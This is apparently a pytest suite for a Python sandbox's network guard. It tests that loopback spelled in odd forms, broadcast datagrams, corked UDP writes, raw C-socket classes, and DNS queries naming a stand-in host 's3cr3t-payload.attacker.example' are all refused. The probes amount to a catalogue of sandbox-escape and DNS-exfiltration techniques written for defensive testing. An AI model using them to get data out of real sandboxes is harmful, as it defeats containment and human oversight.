"""End-to-end: one destination, one verdict, whatever its spelling (issue
13, item 7), and a DNS query only for a host a rule names (issue 14, item
2; weakness 15). Both layers: the Python guard (guard/net.c, under
os-sandbox=subprocess) and the kernel layer's supervisor (src/kernel/netsup.c,
os-sandbox=landlock with py-sandbox=false, so that every socket call
reaches it as native code would), and the two together; as root and as
uid 65534.

The evidence is outside the sandbox: a TCP and a UDP listener on every
local address (dual-stack when IPv6 works) count what arrived, and a fake
DNS server on 127.0.0.x:53 records the names it was asked for. A refused
spelling must leave the counters at zero; the same spellings under rules
that allow loopback must arrive (the control that the probes work).
"""

import os
import random
import socket
import textwrap
import threading
import time

import pytest

from conftest import pyenv_newest, pyenv_oldest, scaled
from pysbtest import serve_until_closed, stop_serving
from test_guard_net import _ipv6_works
from test_kernel import ABI

PYTHON = "/usr/bin/python3"  # uid 65534 cannot reach pyenv's under /root

# layer -> (os-sandbox, py-sandbox)
LAYERS = {
    "guard": ("subprocess", "true"),
    "supervisor": ("landlock", "false"),
    "both": ("landlock", "true"),
}
WHO = ["root", "nobody"]


IPV6 = _ipv6_works()


@pytest.fixture(params=list(LAYERS), ids=list(LAYERS))
def layer(request):
    os_sandbox, _ = LAYERS[request.param]
    if os_sandbox == "landlock" and ABI < 4:
        pytest.skip(f"this kernel's Landlock ABI is {ABI}, below 4 [core]")
    if not os.access(PYTHON, os.X_OK):
        pytest.skip(f"no {PYTHON}")
    return request.param


@pytest.fixture(params=WHO, ids=WHO)
def who(request):
    if request.param == "nobody" and os.geteuid() != 0:
        pytest.skip("not root: the root column is unprivileged already")
    return request.param


class Counter:
    """A listener on every local address that counts what arrives."""

    def __init__(self, kind):
        fam = socket.AF_INET6 if IPV6 else socket.AF_INET
        self.sock = socket.socket(fam, kind)
        if IPV6:
            self.sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.sock.bind(("::" if IPV6 else "0.0.0.0", 0))
        self.port = self.sock.getsockname()[1]
        self.count = 0
        self.lock = threading.Lock()
        if kind == socket.SOCK_STREAM:
            self.sock.listen(64)
        self.thread = serve_until_closed(self, lambda: self._one(kind))

    def _one(self, kind):
        if kind == socket.SOCK_STREAM:
            conn, _ = self.sock.accept()
            conn.close()
        else:
            self.sock.recvfrom(2048)
        with self.lock:
            self.count += 1

    def settled(self, want=None):
        """The count once nothing more arrives (or want is reached: then
        the wait is long, as it only runs out on a failure)."""
        deadline = time.monotonic() + scaled(2 if want is None else 15)
        last = -1
        while time.monotonic() < deadline:
            with self.lock:
                n = self.count
            if want is not None and n >= want:
                return n
            if n == last and want is None:
                time.sleep(0.2)
                with self.lock:
                    if self.count == n:
                        return n
            last = n
            time.sleep(0.1)
        with self.lock:
            return self.count

    def close(self):
        stop_serving(self)


@pytest.fixture
def counters():
    tcp, udp = Counter(socket.SOCK_STREAM), Counter(socket.SOCK_DGRAM)
    yield tcp, udp
    tcp.close()
    udp.close()


PRELUDE = '''\
import asyncio, socket, sys
P, U = int(sys.argv[1]), int(sys.argv[2])
A4, A6 = socket.AF_INET, socket.AF_INET6


def t(label, f):
    try:
        r = f()
    except BaseException as e:
        print(f"{label}: {type(e).__name__}: {e}", flush=True)
    else:
        print(f"{label}: OK {r!r}", flush=True)


def tcp(fam, host, cls=socket.socket):
    s = cls(fam, socket.SOCK_STREAM)
    s.settimeout(10)
    try:
        s.connect((host, P))
        return "connected"
    finally:
        s.close()


def udp(fam, host, how="sendto"):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        if how == "sendto":
            s.sendto(b"x", (host, U))
        else:
            s.sendmsg([b"x"], [], 0, (host, U))
        return "sent"
    finally:
        s.close()


def aio(host):
    async def go():
        r, w = await asyncio.wait_for(asyncio.open_connection(host, P), 10)
        w.close()
    asyncio.run(go())
    return "connected"


'''

# label -> the probe; every one of them reaches loopback on Linux
TCP_LOOP = {
    "any": "tcp(A4, '0.0.0.0')",
    "zero": "tcp(A4, '0')",
    "zero_octal": "tcp(A4, '00')",
    "zero_hex": "tcp(A4, '0x0')",
    "zero_two_parts": "tcp(A4, '0.0')",
    "empty": "tcp(A4, '')",
    "short": "tcp(A4, '127.1')",
    "hex": "tcp(A4, '0x7f.1')",
    "integer": "tcp(A4, '2130706433')",
    "octal": "tcp(A4, '017700000001')",
    "c_class": "tcp(A4, '0', socket.socket.__mro__[1])",
    "create_connection": "socket.create_connection(('0', P), 10).close()",
    "asyncio": "aio('0.0.0.0')",
}
TCP_LOOP6 = {
    "any6": "tcp(A6, '::')",
    "any6_long": "tcp(A6, '0:0::0')",
    "mapped_any": "tcp(A6, '::ffff:0.0.0.0')",
    "mapped_loop": "tcp(A6, '::ffff:127.0.0.1')",
    "mapped_c_class": "tcp(A6, '::ffff:0.0.0.0', socket.socket.__mro__[1])",
}
UDP_LOOP = {
    "udp_any": "udp(A4, '0.0.0.0')",
    "udp_zero": "udp(A4, '0')",
    "udp_short": "udp(A4, '127.1')",
    "udp_sendmsg": "udp(A4, '0', 'sendmsg')",
}
UDP_LOOP6 = {
    "udp_any6": "udp(A6, '::')",
    "udp_mapped_any": "udp(A6, '::ffff:0.0.0.0')",
    "udp_sendmsg6": "udp(A6, '::', 'sendmsg')",
}


def _probes():
    tcp, udp = dict(TCP_LOOP), dict(UDP_LOOP)
    if IPV6:
        tcp.update(TCP_LOOP6)
        udp.update(UDP_LOOP6)
    return tcp, udp


def _run(run_sb, tmp_cwd, layer, who, rules, body, *args):
    os_sandbox, py_sandbox = LAYERS[layer]
    if who == "nobody":
        os.chown(tmp_cwd, 65534, 65534)
    (tmp_cwd / ".py-sandboxes").write_text(
        "python-import=*\n" + "".join(r + "\n" for r in rules) +
        f"os-sandbox={os_sandbox}\npy-sandbox={py_sandbox}\n")
    (tmp_cwd / "s.py").write_text(PRELUDE + textwrap.dedent(body))
    r = run_sb([f"--python={PYTHON}", "s.py", *[str(a) for a in args]],
               unprivileged=who == "nobody", timeout=scaled(60))
    assert r.returncode == 0, (r.stdout, r.stderr)
    out = {}
    for line in r.stdout.splitlines():
        label, sep, rest = line.partition(": ")
        if sep:
            out[label] = rest
    return out, r.stderr


def _refused(layer, result):
    """The layer's own refusal, not a timeout or a refused connection."""
    if layer == "supervisor":
        return result.startswith("PermissionError: [Errno 13]")
    return result.startswith("RuleSocketConnectionRefusedError: ")


def test_every_spelling_of_loopback_is_refused_by_a_loopback_deny(
        run_sb, tmp_cwd, layer, who, counters):
    """Issue 13, item 8: 0.0.0.0, ::, 0 and the rest reached loopback past
    a DENY of 127.0.0.0/8 and ::1. Nothing may arrive now."""
    tcp_c, udp_c = counters
    tcp, udp = _probes()
    body = "".join(f"t({k!r}, lambda: {v})\n"
                   for k, v in {**tcp, **udp}.items())
    out, err = _run(run_sb, tmp_cwd, layer, who,
                    ["net=DENY|*|127.0.0.0/8|*|OUT", "net=DENY|*|::1|*|OUT",
                     "net=ALLOW|*|*|*|*"], body, tcp_c.port, udp_c.port)
    for label in list(tcp) + list(udp):
        assert _refused(layer, out.get(label, "")), (label, out.get(label),
                                                     err)
    assert tcp_c.settled() == 0, "a refused connection arrived"
    assert udp_c.settled() == 0, "a refused datagram arrived"


def test_the_same_spellings_arrive_when_loopback_is_allowed(
        run_sb, tmp_cwd, layer, who, counters):
    """The control: the probes above do reach the listeners, so their
    refusal is the sandbox's. And an ALLOW of 0.0.0.0 is not one of
    loopback (the guard's message says where the kernel connects)."""
    tcp_c, udp_c = counters
    tcp, udp = _probes()
    body = "".join(f"t({k!r}, lambda: {v})\n"
                   for k, v in {**tcp, **udp}.items())
    p, u = tcp_c.port, udp_c.port
    out, err = _run(run_sb, tmp_cwd, layer, who,
                    [f"net=ALLOW|TCP|127.0.0.1|{p}|OUT",
                     f"net=ALLOW|TCP|::1|{p}|OUT",
                     f"net=ALLOW|UDP|127.0.0.1|{u}|OUT",
                     f"net=ALLOW|UDP|::1|{u}|OUT"], body, p, u)
    for label in tcp:
        assert out.get(label) in ("OK 'connected'", "OK None"), (
            label, out.get(label), err)
    for label in udp:
        assert out.get(label) == "OK 'sent'", (label, out.get(label), err)
    assert tcp_c.settled(len(tcp)) == len(tcp)
    assert udp_c.settled(len(udp)) == len(udp)

    out, err = _run(run_sb, tmp_cwd, layer, who,
                    [f"net=ALLOW|TCP|0.0.0.0|{p}|OUT"],
                    "t('any', lambda: tcp(A4, '0.0.0.0'))\n", p, u)
    assert _refused(layer, out["any"]), (out, err)
    if layer != "supervisor":
        assert out["any"].endswith(
            f"'[0.0.0.0]:{p}' DENIED by implicit default policy. The "
            "kernel connects to 127.0.0.1."), out["any"]


# ---- DNS: a query only for a host a rule names ----

class FakeDns:
    """A UDP socket on 127.0.0.x:53 that records every question name."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(50):
            self.addr = f"127.0.0.{random.randint(100, 250)}"
            try:
                self.sock.bind((self.addr, 53))
                break
            except OSError:
                continue
        else:
            pytest.skip("no free 127.0.0.x:53")
        self.names, self.raw = [], []
        self.lock = threading.Lock()
        self.thread = serve_until_closed(self, self._one)

    def _one(self):
        data, _ = self.sock.recvfrom(4096)
        labels, i = [], 12
        while i < len(data) and data[i]:
            labels.append(data[i + 1:i + 1 + data[i]])
            i += 1 + data[i]
        with self.lock:
            self.names.append(b".".join(labels).decode("ascii", "replace"))
            self.raw.append(data)

    def seen(self):
        time.sleep(0.2)
        with self.lock:
            return list(self.names)

    def datagrams(self):
        time.sleep(0.2)
        with self.lock:
            return list(self.raw)

    def close(self):
        stop_serving(self)


@pytest.fixture
def fake_dns():
    if os.geteuid() != 0:
        pytest.skip("binding port 53 needs root")
    d = FakeDns()
    yield d
    d.close()


DNS_PRELUDE = '''
import struct
R = sys.argv[3]


def query(name, qd=1, opcode=0):
    b = struct.pack(">HHHHHH", 0x1234, 0x0100 | opcode << 11, qd, 0, 0, 0)
    for label in name.split("."):
        b += bytes([len(label)]) + label.encode()
    return b + b"\\0\\0\\1\\0\\1"


def send(data, how="sendto"):
    s = socket.socket(A4, socket.SOCK_DGRAM)
    try:
        if how == "sendto":
            s.sendto(data, (R, 53))
        elif how == "sendto_flags":
            s.sendto(data, 0, (R, 53))
        elif how == "sendmsg":
            s.sendmsg([data], [], 0, (R, 53))
        else:
            s.connect((R, 53))
            s.send(data)
        return "sent"
    finally:
        s.close()


def stream(data):
    s = socket.socket(A4, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((R, 53))
        s.send(struct.pack(">H", len(data)) + data)
        return "sent"
    finally:
        s.close()
'''

SECRET = "s3cr3t-payload.attacker.example"


def test_a_dns_query_leaves_only_for_a_named_host(run_sb, tmp_cwd, layer,
                                                  who, fake_dns, counters):
    """Weakness 15 closed: a rule for the resolver's address allows the
    address, not every lookup. The hostile program builds its own queries
    and sends them to the resolver the rules allow; only the one for the
    host a rule names (localhost) reaches the fake server."""
    tcp_c, udp_c = counters
    body = DNS_PRELUDE + f'''
N = {SECRET!r}
t("named", lambda: send(query("localhost")))
t("named_flags", lambda: send(query("LocalHost"), "sendto_flags"))
t("secret", lambda: send(query(N)))
t("secret_flags", lambda: send(query(N), "sendto_flags"))
t("secret_sendmsg", lambda: send(query(N), "sendmsg"))
t("secret_connected", lambda: send(query(N), "connect"))
t("secret_c_class", lambda: socket.socket.__mro__[1](A4, socket.SOCK_DGRAM)
  .sendto(query(N), (R, 53)))
t("two_questions", lambda: send(query("localhost", qd=2) + query(N)[12:]))
t("update", lambda: send(query(N, opcode=5)))
t("named_then_junk", lambda: send(query("localhost") + N.encode()))
t("stream", lambda: stream(query(N)))
t("gai", lambda: socket.getaddrinfo(N, 80))
'''
    out, err = _run(run_sb, tmp_cwd, layer, who,
                    [f"net=ALLOW|UDP|{fake_dns.addr}|53|OUT",
                     f"net=ALLOW|TCP|{fake_dns.addr}|53|OUT",
                     "net=ALLOW|TCP|localhost|9|OUT"], body,
                    tcp_c.port, udp_c.port, fake_dns.addr)
    seen = fake_dns.seen()
    assert not [n for n in seen if "attacker" in n or "s3cr3t" in n], seen
    assert out["named"] == "OK 'sent'", (out, err)
    assert out["named_flags"] == "OK 'sent'", (out, err)
    assert sorted(seen) == ["LocalHost", "localhost"], seen
    for label in ("secret", "secret_flags", "secret_sendmsg",
                  "secret_connected", "secret_c_class",
                  "two_questions", "update", "named_then_junk", "stream"):
        assert _refused(layer, out[label]), (label, out[label], err)
    if layer != "supervisor":
        assert out["secret"] == (
            "RuleSocketConnectionRefusedError: Guard DNS query for "
            f"'{SECRET}' DENIED: no net= rule names this host. Add "
            f"net=ALLOW|TCP|{SECRET}|<port>|OUT to resolve and reach it (an "
            "address rule allows addresses, not lookups).")
        assert out["gai"].startswith(
            f"RuleSocketConnectionRefusedError: Guard name resolution of "
            f"'{SECRET}' DENIED"), out["gai"]
    else:
        assert (f"python-sb: network: DNS query for '{SECRET}' refused: no "
                "net= rule names this host.") in err
        assert f"Hint: add net=ALLOW|TCP|{SECRET}|<port>|OUT" in err


def test_a_star_rule_lets_every_query_through(run_sb, tmp_cwd, layer, who,
                                              fake_dns, counters):
    """'*' names every host: queries for any name go out, as the rule
    says (and as the user who wrote it asked)."""
    tcp_c, udp_c = counters
    body = DNS_PRELUDE + f'''
t("secret", lambda: send(query({SECRET!r})))
t("connected", lambda: send(query("other.example"), "connect"))
'''
    out, err = _run(run_sb, tmp_cwd, layer, who, ["net=ALLOW|UDP|*|53|OUT"],
                    body, tcp_c.port, udp_c.port, fake_dns.addr)
    assert out["secret"] == "OK 'sent'", (out, err)
    assert out["connected"] == "OK 'sent'", (out, err)
    # a progress wait: it runs out only when a query never comes
    deadline = time.monotonic() + scaled(15)
    while len(fake_dns.seen()) < 2 and time.monotonic() < deadline:
        pass
    assert sorted(fake_dns.seen()) == ["other.example", SECRET]


def test_self_port_is_the_sandbox_listener_address_not_its_port_number(
        run_sb, tmp_cwd, layer, who):
    """Port 'self' counted a port number: a program that listened on
    127.0.0.2:P (an IN rule allows it) had every connection to port P made
    'self', so net=ALLOW|TCP|127.0.0.1/32|self|OUT reached another
    process's listener on 127.0.0.1:P. The listener must be the sandbox's
    for the address connected to; its own listener still works."""
    outside = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    outside.bind(("127.0.0.1", 0))
    outside.listen(8)
    port = outside.getsockname()[1]
    outside.settimeout(0.2)
    body = '''
srv = socket.socket(A4, socket.SOCK_STREAM)
srv.bind(("127.0.0.2", P))
srv.listen(8)
t("own", lambda: socket.create_connection(("127.0.0.2", P), timeout=5)
  .close())
t("other", lambda: socket.create_connection(("127.0.0.1", P), timeout=5)
  .close())
t("other_mapped", lambda: tcp(A6, "::ffff:127.0.0.1"))
t("other_any", lambda: tcp(A4, "0.0.0.0"))
'''
    try:
        out, err = _run(run_sb, tmp_cwd, layer, who,
                        [f"net=ALLOW|TCP|127.0.0.2|{port}|IN",
                         "net=ALLOW|TCP|127.0.0.0/8|self|OUT"],
                        body, port, 0)
        accepted = 0
        try:
            while True:
                outside.accept()[0].close()
                accepted += 1
        except OSError:
            pass
    finally:
        outside.close()
    assert out["own"] == "OK None", (out, err)
    assert accepted == 0, (out, err)
    for label in ("other", "other_mapped", "other_any"):
        assert _refused(layer, out[label]), (label, out[label], err)


def test_a_corked_query_carries_nothing_after_it(run_sb, tmp_cwd, layer,
                                                 who, fake_dns, counters):
    """A query for a named host sent with MSG_MORE, or on a socket with
    UDP_CORK, stays pending in the kernel: a later write() or send()
    without an address, which nobody judges, appended any bytes to it and
    they left for the resolver with the query. Both refused now."""
    tcp_c, udp_c = counters
    body = DNS_PRELUDE + f'''
import os
N = {SECRET!r}


def corked(how):
    s = socket.socket(A4, socket.SOCK_DGRAM)
    try:
        if how == "cork":
            s.setsockopt(socket.IPPROTO_UDP, 1, 1)  # UDP_CORK
            s.sendto(query("localhost"), (R, 53))
        else:
            s.sendto(query("localhost"), socket.MSG_MORE, (R, 53))
        os.write(s.fileno(), N.encode())
        if how == "cork":
            s.setsockopt(socket.IPPROTO_UDP, 1, 0)
        return "sent"
    finally:
        s.close()


t("plain", lambda: send(query("localhost")))
t("msg_more", lambda: corked("msg_more"))
t("cork", lambda: corked("cork"))
'''
    out, err = _run(run_sb, tmp_cwd, layer, who,
                    [f"net=ALLOW|UDP|{fake_dns.addr}|53|OUT",
                     "net=ALLOW|TCP|localhost|9|OUT"], body,
                    tcp_c.port, udp_c.port, fake_dns.addr)
    raw = fake_dns.datagrams()
    assert not [d for d in raw if b"s3cr3t" in d], (raw, out, err)
    assert out["plain"] == "OK 'sent'", (out, err)
    for label in ("msg_more", "cork"):
        assert _refused(layer, out[label]), (label, out[label], err)


def _reaches_this_host(dest):
    """Does a datagram to 'dest' (broadcast, multicast) come back to a
    socket of this host bound to 0.0.0.0? Outside any sandbox."""
    r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        r.bind(("0.0.0.0", 0))
        r.settimeout(1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b"probe", (dest, r.getsockname()[1]))
        return r.recv(16) == b"probe"
    except OSError:
        return False
    finally:
        r.close()
        s.close()


@pytest.mark.parametrize("dest", ["255.255.255.255", "224.0.0.1"])
def test_a_broadcast_or_multicast_is_judged_as_loopback_too(
        run_sb, tmp_cwd, layer, who, dest):
    """A datagram to 255.255.255.255 or a multicast group is looped back
    to this host's sockets bound to 0.0.0.0: it reached them past a DENY
    of 127.0.0.0/8 (and of the private networks). It is judged as itself
    and as loopback now."""
    if not _reaches_this_host(dest):
        pytest.skip(f"a datagram to {dest} does not come back to this host "
                    "here (no route for it)")
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.bind(("0.0.0.0", 0))
    c.settimeout(1)
    body = f'''
def bcast():
    s = socket.socket(A4, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    return s.sendto(b"leak", ({dest!r}, U))


t("send", bcast)
'''
    try:
        out, err = _run(run_sb, tmp_cwd, layer, who,
                        ["net=DENY|*|127.0.0.0/8|*|OUT",
                         "net=DENY|*|10.0.0.0/8|*|OUT",
                         "net=DENY|*|172.16.0.0/12|*|OUT",
                         "net=DENY|*|192.168.0.0/16|*|OUT",
                         "net=ALLOW|*|*|*|*"],
                        body, 0, c.getsockname()[1])
        got = []
        try:
            while True:
                got.append(c.recv(16))
        except OSError:
            pass
    finally:
        c.close()
    assert got == [], (got, out, err)
    assert _refused(layer, out["send"]), (out, err)


C_CLASS_NAMES = """
import importlib.util, sys
N, MODE = sys.argv[1], sys.argv[2]
def copy_of_socket():
    # a module of its own, outside sys.modules: from 3.12 on its exec
    # makes a socket class anew; renamed between the make and the fill,
    # it is still the copy of _socket it was made as
    spec = importlib.util.find_spec("_socket")
    m = importlib.util.module_from_spec(spec)
    if MODE == "copy-renamed":
        m.__name__ = "zz"
    spec.loader.exec_module(m)
    return m.socket
if MODE == "copy-first":
    C = copy_of_socket()
import socket
if MODE in ("copy", "copy-renamed"):
    C = copy_of_socket()
elif MODE == "mro":
    C = socket.socket.__mro__[1]  # _socket.socket, the C class
def t(label, f):
    try:
        f()
        print(label + ": OK")
    except Exception as e:
        print(f"{label}: {type(e).__name__}: {str(e).splitlines()[0]}")
s = socket.socket() if MODE == "mro" else C()
t("connect", lambda: C.connect(s, ("connect." + N, 80)))
t("connect_ex", lambda: C.connect_ex(s, ("connectex." + N, 80)))
t("bind", lambda: C(socket.AF_INET, socket.SOCK_DGRAM).bind(("bind." + N, 0)))
t("sendto", lambda: C(socket.AF_INET, socket.SOCK_DGRAM).sendto(
    b"x", ("sendto." + N, 80)))
t("control", lambda: socket.getaddrinfo("control." + N, 80))
# a rule's address, through the same class: judged and let through to the
# kernel, which finds nothing listening
t("allowed", lambda: C(socket.AF_INET, socket.SOCK_STREAM).connect(
    ("127.0.0.1", 9)))
"""


def _under_strace(tmp_path, py, program, rules, args, calls):
    """Run 'program' (c.py) under python-sb with os-sandbox=subprocess,
    every import, 'rules' and the resolver's files, with strace outside
    the sandbox watching 'calls' of the whole tree: (the run, the trace's
    lines). Skips, saying why, without strace or 'py'."""
    import shutil
    import subprocess
    from pysbtest import sb_path
    strace = shutil.which("strace")
    if strace is None:
        pytest.skip("strace is not installed (scripts/deps --all)")
    if not os.access(py, os.X_OK):
        pytest.skip(f"no {py}")
    (tmp_path / "c.py").write_text(program)
    (tmp_path / ".py-sandboxes").write_text(
        "python-import=*\nos-sandbox=subprocess\n" + rules +
        "expose-ro=/etc/resolv.conf\nexpose-ro=/etc/hosts\n"
        "expose-ro=/etc/nsswitch.conf\nexpose-ro=/etc/host.conf\n"
        "expose-ro=/etc/gai.conf\n")
    trace = tmp_path / "trace"
    r = subprocess.run([strace, "-f", "-qq", "-s", "512", "-o", str(trace),
                        "-e", "trace=" + calls, str(sb_path()),
                        f"--python={py}", "c.py", *args],
                       cwd=tmp_path, capture_output=True, text=True,
                       timeout=scaled(120))
    return r, (trace.read_text().splitlines() if trace.exists() else [])


@pytest.mark.parametrize("mode", ["mro", "copy", "copy-first",
                                  "copy-renamed"])
@pytest.mark.parametrize("py", sorted({PYTHON, pyenv_oldest(),
                                       pyenv_newest()} - {None}))
def test_a_name_given_to_the_c_socket_class_is_judged_before_a_query(
        tmp_path, py, mode):
    """Weakness 14: CPython resolves a host name given to _socket.socket's
    connect, connect_ex, bind or sendto before it raises the event, so the
    class reached as socket.socket.__mro__[1] sent a DNS query for any
    name under os-sandbox=subprocess, with no net= rule for it; so did the
    class of a copy of _socket made with importlib.util.module_from_spec
    (a class of its own from 3.12 on), before or after 'import socket'.
    strace, outside the sandbox, watches every datagram of the run: no
    query may name the secret. The control, a lookup the rule allows
    ('*'), shows that a query the resolver sends is seen; a connect to a
    rule's address through the same class reaches the kernel."""
    secret = f"s3cr3t{random.randrange(1 << 30)}.attacker.invalid"
    r, trace = _under_strace(
        tmp_path, py, C_CLASS_NAMES,
        "net=ALLOW|TCP|127.0.0.1|9|OUT\n"
        f"net=ALLOW|TCP|control.{secret}|80|OUT\n",
        [secret, mode], "sendto,sendmmsg,sendmsg,write")
    assert r.returncode == 0, r.stderr
    out = dict(ln.split(": ", 1) for ln in r.stdout.splitlines()
               if ": " in ln)
    for label in ("connect", "connect_ex", "bind", "sendto"):
        assert out[label].startswith(
            "RuleSocketConnectionRefusedError: Guard network connection to "
            f"'[{label.replace('_', '')}.{secret}]:"), (label, out[label])
    assert out["allowed"].startswith("ConnectionRefusedError"), out
    # what went out as datagrams, seen from outside: the secret is
    # written on stdout (the labels' messages), so only socket calls count
    sent = [ln for ln in trace
            if ("sendto(" in ln or "sendmmsg(" in ln or "sendmsg(" in ln)]
    assert not [ln for ln in sent if "s3cr3t" in ln and "control" not in ln
                and "\\7control" not in ln], sent
    # the control: the allowed lookup's query left (and was seen)
    assert [ln for ln in sent if "control" in ln], (out, sent)


MANY_COPIES = """
import importlib.util, sys
N = sys.argv[1]
kept = []
for i in range(24):
    spec = importlib.util.find_spec("_socket")
    m = importlib.util.module_from_spec(spec)
    try:
        spec.loader.exec_module(m)
    except RuntimeError as e:
        print("refused", i, e)
    kept.append(m)
for i, m in enumerate(kept):
    try:
        m.socket().connect(("c%d.%s" % (i, N), 80))
    except Exception as e:
        print(i, type(e).__name__, str(e).splitlines()[0])
"""


@pytest.mark.parametrize("py", sorted({PYTHON, pyenv_newest()} - {None}))
def test_a_refused_copy_of_socket_is_emptied(tmp_path, py):
    """The guard follows a bounded number of copies of a wrapped module's
    classes; past it the exec is refused. The program holds the module
    already (module_from_spec gave it), so a refusal that left the module
    as the exec filled it handed out a class without the wrappers: a name
    given to its connect was resolved (strace saw the query). A refused
    copy is now emptied. strace outside the sandbox sees no query for the
    secret from any copy, refused or not."""
    secret = f"s3cr3t{random.randrange(1 << 30)}.attacker.invalid"
    r, trace = _under_strace(tmp_path, py, MANY_COPIES,
                             "net=ALLOW|TCP|127.0.0.1|9|OUT\n", [secret],
                             "sendto,sendmmsg,sendmsg")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    results = [ln for ln in lines if not ln.startswith("refused")]
    assert len(results) == 24, lines
    for ln in results:
        assert ("RuleSocketConnectionRefusedError" in ln or
                "has no attribute 'socket'" in ln), ln
    sent = [ln for ln in trace if "s3cr3t" in ln]
    assert not sent, sent
